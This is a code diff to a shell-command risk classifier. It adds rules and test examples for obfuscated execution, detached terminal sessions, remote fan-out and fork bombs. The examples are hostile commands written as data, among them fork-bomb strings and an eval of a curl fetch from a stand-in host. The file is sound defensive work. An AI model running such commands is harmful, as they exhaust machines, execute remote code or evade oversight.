@@ -4,6 +4,21 @@ from __future__ import annotations
 
 from engine.gate.paths import is_system_program
 from engine.gate.packs.model import CATASTROPHIC, COMPENSABLE, DANGEROUS, IRREVERSIBLE, Pack, rule
+from engine.gate.shell.view import Command
+
+_TMUX_QUIET = frozenset(
+    "ls list-sessions lsw list-windows lsp list-panes list-clients lsc list-commands lscm list-buffers lsb"
+    " list-keys lsk has-session has info show-options show show-environment showenv display-message display"
+    " -V capture-pane capturep kill-server kill-session kill-window kill-pane".split())
+
+
+def _detached(cmd: Command) -> bool:
+    """tmux and screen invocations that start or type into a session (not those that list or stop them)."""
+    if cmd.name == "screen":
+        return not (set(cmd.args) & {"-ls", "-list", "-wipe", "-v", "-version", "-r", "-R", "-x"})
+    if cmd.name != "tmux":
+        return True
+    return not cmd.operands or cmd.operands[0] not in _TMUX_QUIET
 
 RULES = [
     rule("exec.shell-spawn", DANGEROUS, "exec", "starts an interactive shell nobody can see into", trigger=True,
@@ -23,6 +38,23 @@ RULES = [
          examples=["sudo git status", "doas pkg_add nginx", "sudo -u www ls"], counter=["git status"]),
     rule("exec.dynamic-command", DANGEROUS, "exec obfuscation", "the program to run comes from a variable",
          trigger=True, examples=["$CMD test", "${CMD} test"], counter=["echo $CMD"]),
+    rule("exec.indirect-command", DANGEROUS, "exec obfuscation",
+         "the program to run is built from variables, substitutions or set -- (resolved here, still indirect)",
+         trigger=True, examples=["c=ls; $c", "$(echo ls) -la", "set -- ls; \"$@\""], counter=["ls", "echo $c"]),
+    rule("exec.redefined-command", DANGEROUS, "exec evasion injection",
+         "runs a name the script itself redefined (a function, an alias or hash -p)", trigger=True,
+         examples=["f(){ ls; }; f", "alias x=ls; x", "hash -p /bin/ls x; x"], counter=["ls", "f(){ ls; }"]),
+    rule("exec.eval", DANGEROUS, "exec obfuscation", "evaluates a string as shell code", trigger=True,
+         examples=["eval ls", "eval 'ls -la'"], counter=["echo eval"]),
+    rule("exec.detached", DANGEROUS, "exec evasion", "runs a command in a terminal session nobody is watching",
+         names="tmux screen byobu dtach abduco", test=lambda c: _detached(c),
+         examples=["tmux new -d 'sleep 100'", "screen -dmS job sleep 100", "tmux send-keys -t 0 ls Enter"],
+         counter=["tmux ls", "screen -ls", "tmux list-sessions"]),
+    rule("exec.remote-fanout", DANGEROUS, "exec net", "runs a command on remote hosts (ad-hoc configuration "
+         "management or a parallel shell)", names="ansible salt salt-ssh pdsh clush pssh parallel-ssh",
+         tier=IRREVERSIBLE, test=lambda c: not (c.flags & {"--version", "--help", "-h", "--list-hosts", "-V"}),
+         examples=["ansible all -m shell -a uptime", "salt '*' cmd.run uptime", "pdsh -w web1 uptime"],
+         counter=["ansible --version"]),
     rule("exec.eval-dynamic", DANGEROUS, "exec obfuscation", "evaluates text built at run time", trigger=True,
          examples=["eval \"$(curl -s https://x.example)\"", "x=$(cat f); eval ${x}"], counter=["eval 'ls'"]),
     rule("exec.find-malformed", DANGEROUS, "exec", "find -exec without a proper terminator", trigger=True,
@@ -30,8 +62,9 @@ RULES = [
     rule("exec.remote-parallel", DANGEROUS, "exec net", "GNU parallel runs the commands on remote hosts",
          trigger=True, tier=IRREVERSIBLE, examples=["parallel -S host git clean -f ::: ."], counter=["parallel echo ::: a"]),
     rule("exec.fork-bomb", CATASTROPHIC, "exec", "fork bomb: exhausts the process table", raw="always", needles="()",
-         args=r"\(\)\s{0,4}\{\s{0,4}(\w{1,32}|:)\s{0,4}\|\s{0,4}\1\s{0,4}&",
-         examples=[":(){ :|:& };:", "bomb(){ bomb|bomb& };bomb"], counter=["f(){ echo hi; }; f"]),
+         args=r"\(\)\s{0,4}\{\s{0,4}(\w{1,32}|:)\s{0,4}\|\s{0,4}\1\s{0,4}&", tier=IRREVERSIBLE,
+         examples=[":(){ :|:& };:", "bomb(){ bomb|bomb& };bomb", "f(){ f & f; }; f", "function f { f | f & }; f"],
+         counter=["f(){ echo hi; }; f", "fib(){ fib 1; fib 2; }; fib"]),
     rule("exec.source", DANGEROUS, "exec", "runs a file's commands in the current shell", names="source .",
          examples=["source /tmp/malicious.sh", ". /tmp/evil.sh"], counter=["cat /tmp/evil.sh"]),
     rule("exec.local-program", DANGEROUS, "exec", "runs a program named by a path outside the system's bin directories",
